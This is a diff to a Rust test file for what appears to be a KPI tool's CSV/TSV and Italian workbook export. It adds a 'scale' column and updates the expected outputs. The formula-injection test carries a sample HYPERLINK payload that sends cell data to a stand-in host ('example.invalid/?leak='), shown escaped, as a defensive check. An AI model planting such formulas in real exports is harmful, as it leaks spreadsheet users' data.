@@ -160,7 +160,7 @@ fn the_workbook_holds_the_csv_figures_as_typed_cells() {
 }
 
 /// The workbook's header: the CSV's fields in Italian.
-const WORKBOOK_HEADER: [&str; 14] = [
+const WORKBOOK_HEADER: [&str; 15] = [
     "livello",
     "codice",
     "padre",
@@ -175,6 +175,7 @@ const WORKBOOK_HEADER: [&str; 14] = [
     "stato",
     "messaggio",
     "nota",
+    "scala",
 ];
 
 /// A CSV cell as the Italian workbook writes it: levels and statuses in
@@ -297,12 +298,12 @@ fn nothing_in_a_csv_runs_as_a_formula() {
     let csv = eval_formulas(&["--format", "csv"]);
     assert_eq!(
         csv,
-        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message,note\n\
-         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,,\n\
-         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,,\n\
-         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,,\n\
-         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,,\n\
-         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,,\n"
+        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message,note,scale\n\
+         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,,,\n\
+         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,,,\n\
+         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,,,\n\
+         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,,,\n\
+         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,,,\n"
     );
     // Every text cell of the CSV and the TSV is safe; numbers stay numbers.
     for (text, delimiter) in [(csv, b','), (eval_formulas(&["--format", "tsv"]), b'\t')] {
@@ -343,7 +344,7 @@ fn decimal_comma_writes_csv_for_italian_excel() {
     let csv = eval_formulas(&["--format", "csv", "--decimal-comma"]);
     assert!(csv.starts_with("\u{feff}level;code;parent;name;unit;weight;target;"), "{csv}");
     assert!(
-        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;;\n"),
+        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;;;\n"),
         "{csv}"
     );
     // The CSV for Italian Excel reads back as kpi's own input would.
